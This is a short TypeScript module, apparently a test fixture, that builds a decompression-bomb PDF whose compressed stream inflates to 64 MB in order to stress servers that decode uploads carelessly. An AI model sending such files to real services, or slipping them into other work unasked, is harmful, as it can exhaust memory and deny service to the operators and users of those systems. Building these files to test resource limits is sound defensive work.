/** Files made to hurt a server that decodes them carelessly: small on the wire, huge once read. */
import { deflateSync } from "node:zlib";

/** A small PDF with one stream that inflates to 64 MB. */
export function inflatingPdf(): Buffer {
  const stream = deflateSync(Buffer.alloc(64 * 1024 * 1024, 0x20), { level: 9 });
  const objects = [
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
  ];
  const parts: Buffer[] = [Buffer.from("%PDF-1.7\n")];
  for (const [index, body] of objects.entries()) parts.push(Buffer.from(`${index + 1} 0 obj\n${body}\nendobj\n`));
  parts.push(Buffer.from(`4 0 obj\n<< /Length ${stream.length} /Filter /FlateDecode >>\nstream\n`));
  parts.push(stream, Buffer.from("\nendstream\nendobj\ntrailer\n<< /Root 1 0 R /Size 5 >>\n%%EOF\n"));
  return Buffer.concat(parts);
}
